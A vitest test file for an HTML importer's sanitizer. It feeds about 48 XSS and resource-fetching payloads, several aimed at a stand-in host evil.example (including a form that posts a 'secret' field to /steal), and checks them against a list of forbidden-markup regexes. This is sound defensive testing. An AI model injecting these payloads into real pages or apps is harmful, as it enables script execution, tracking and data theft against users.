import { afterEach, describe, expect, it } from 'vitest';
import { tempApp } from '../../helpers/temp-workspace.ts';
import { importFiles, type App } from './import-helper.ts';

const EVIL = 'https://evil.example';

/**
 * Hostile pages: each hides something that would run or fetch around a visible marker V. The
 * marker is replaced by VISIBLE-n so each page's text can be checked.
 */
const PAYLOADS: string[] = [
  `<script>alert(1)</script><p>V</p>`,
  `<p onclick="alert(1)" onmouseover="alert(2)">V</p>`,
  `<p><a href="javascript:alert(1)">V</a></p>`,
  `<p><a href="  jav&#x09;ascript:alert(1)">V</a></p>`,
  `<img src="x" onerror="alert(1)"><p>V</p>`,
  `<svg onload="alert(1)"><script>alert(1)</script></svg><p>V</p>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="1" y="1">svgtext</text></a></svg><p>V</p>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>V</p>`,
  `<iframe src="${EVIL}/frame"></iframe><p>V</p>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe><p>V</p>`,
  `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/x.swf"><p>V</p>`,
  `<html><head><meta http-equiv="refresh" content="0;url=${EVIL}/"></head><body><p>V</p></body></html>`,
  `<html><head><base href="${EVIL}/"></head><body><p><a href="/x">V</a></p></body></html>`,
  `<p style="background:url(${EVIL}/t.png)">V</p>`,
  `<style>@import url(${EVIL}/x.css); p { background: url(${EVIL}/y.png) }</style><p>V</p>`,
  `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x"><p>V</p>`,
  `<video poster="${EVIL}/p.png" src="${EVIL}/v.mp4"></video><p>V</p>`,
  `<table background="${EVIL}/bg.png"><tr><td>V</td></tr></table>`,
  `<html><body background="${EVIL}/bg.png"><p>V</p></body></html>`,
  `<form action="${EVIL}/steal"><p>V</p><input name="q" value="secret"><button formaction="${EVIL}/two">Go</button></form>`,
  `<img src="${EVIL}/track.gif"><p>V</p>`,
  `<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">V</a></p>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><p>V</p>`,
  `<link rel="stylesheet" href="${EVIL}/s.css"><p>V</p>`,
  `<audio src="${EVIL}/a.mp3"><source src="${EVIL}/b.mp3"></audio><p>V</p>`,
  `<div style="width: expression(alert(1))">V</div>`,
  `<input type="image" src="${EVIL}/i.png"><p>V</p>`,
  `<picture><source srcset="${EVIL}/p.webp"><img src="${EVIL}/p.png"></picture><p>V</p>`,
  `<noscript><img src=x onerror=alert(1)></noscript><p>V</p>`,
  `<template><script>alert(1)</script></template><p>V</p>`,
  `<p>V</p><!--<script>alert(1)</script>-->`,
  `<p><a href="https://example.org/report" ping="${EVIL}/ping" target="_blank">V</a></p>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object><p>V</p>`,
  `<isindex action="javascript:alert(1)" type="image"><p>V</p>`,
  `<details open ontoggle="alert(1)"><summary>V</summary></details>`,
  `<marquee onstart="alert(1)">V</marquee>`,
  `<xmp><script>alert(1)</script></xmp><p>V</p>`,
  `<applet code="x.class" codebase="${EVIL}/"></applet><p>V</p>`,
  `<p><a href="vbscript:msgbox(1)">V</a></p>`,
  `<html><head><meta property="og:url" content="javascript:alert(1)"><meta name="author" content="<script>alert(1)</script>Ann"></head><body><p>V</p></body></html>`,
  `<script type="application/ld+json">{"headline":"<img src=x onerror=alert(1)>Head","author":{"name":"<b onmouseover=alert(1)>Bob</b>"},"url":"javascript:alert(1)"}</script><p>V</p>`,
  `<html><head><title><img src=x onerror=alert(1)>T</title></head><body><p>V</p></body></html>`,
  `<svg><style>@import url(${EVIL}/s.css)</style></svg><p>V</p>`,
  `<math href="javascript:alert(1)">x</math><p>V</p>`,
  `<p>V</p><a href="https://example.org/" style="color:red">safe link</a>`,
  `<div><img src="data:image/png;base64,iVBORw0KGgo=" alt="pixel"></div><p>V</p>`,
  `<blockquote cite="${EVIL}/q"><p>V</p></blockquote>`,
  `<p>V<img src="cid:part1@mail"></p><object type="text/x-scriptlet" data="${EVIL}/x.sct"></object>`,
];

/** What must never be stored: anything that runs, and any attribute or rule that fetches. */
const FORBIDDEN_HTML: RegExp[] = [
  /<\s*(script|style|iframe|frame|object|embed|applet|svg|math|form|input|button|meta|base|link|video|audio|source|picture|template|noscript|xmp|isindex|marquee)\b/i,
  /\son[a-z]+\s*=/i,
  /javascript:|vbscript:|data:text\/html|data:image\/svg/i,
  /\s(srcset|poster|background|style|action|formaction|ping|codebase|xlink:href|cite|data)\s*=/i,
  /url\(|@import|expression\(/i,
  /\ssrc\s*=\s*(?!["']?data:image\/(png|jpeg|gif|webp))/i,
  /http-equiv/i,
];

describe('hostile HTML', () => {
  const apps: App[] = [];
  afterEach(() => apps.splice(0).forEach((a) => a.cleanup()));

  it(`stores ${PAYLOADS.length} hostile pages with nothing executable or fetching in any field, and keeps their visible text`, async () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(30);
    const app = tempApp();
    apps.push(app);
    const files = Object.fromEntries(PAYLOADS.map((p, i) => [`hostile-${i}.html`, p.replace('>V<', `>VISIBLE-${i}<`)]));
    const { summary, doc } = await importFiles(app, files);
    expect(summary.failed).toEqual([]);
    for (let i = 0; i < PAYLOADS.length; i++) {
      const stored = doc(`hostile-${i}.html`);
      expect(stored.text, `payload ${i}`).toContain(`VISIBLE-${i}`);
      for (const pattern of FORBIDDEN_HTML) expect(stored.originalHtml ?? '', `payload ${i}: ${pattern}`).not.toMatch(pattern);
      const fields = JSON.stringify([stored.text, stored.title, stored.author, stored.source, stored.url, stored.meta, stored.blocks]);
      expect(fields, `payload ${i}`).not.toMatch(/<|alert\(|javascript:|vbscript:|evil\.example|msgbox/i);
      expect(stored.originalHtml ?? '', `payload ${i}`).not.toMatch(/evil\.example|alert\(|msgbox/i);
    }
    // What is harmless survives: an http link (shown, never fetched) and an inline PNG.
    expect(doc(`hostile-${PAYLOADS.length - 4}.html`).originalHtml).toContain('href="https://example.org/"');
    expect(doc(`hostile-${PAYLOADS.length - 3}.html`).originalHtml).toContain('src="data:image/png;base64,');
    expect(doc('hostile-40.html').title).toBe('Head');
    expect(doc('hostile-40.html').author).toBe('Bob');
    expect(doc('hostile-39.html').author).toBe('Ann');
    expect(doc('hostile-39.html').url).toBeNull();
  });
});
